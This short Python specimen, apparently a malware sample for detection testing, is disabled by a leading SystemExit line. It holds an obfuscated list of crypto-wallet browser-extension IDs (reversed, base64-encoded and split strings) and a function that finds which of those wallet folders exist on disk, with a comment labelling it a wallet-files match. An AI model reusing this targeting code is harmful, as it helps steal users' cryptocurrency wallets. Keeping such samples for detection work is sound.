raise SystemExit("specimen: not to be run")
import base64
import os

EXTENSIONS = ["nnkgpgfebdoknfelheoaeagoebfhibkn"[::-1], base64.b64decode("YmZuYWVsbW9tZWltaGxwbWdqbmpvcGhocGtrb2xqcGE=").decode(), "hnfanknocf" + "eofbddgcij" + "nmhnfnkdnaad"]

def grab(base):
    return [name for name in EXTENSIONS if os.path.isdir(os.path.join(base, name))]  # match: wallet-files
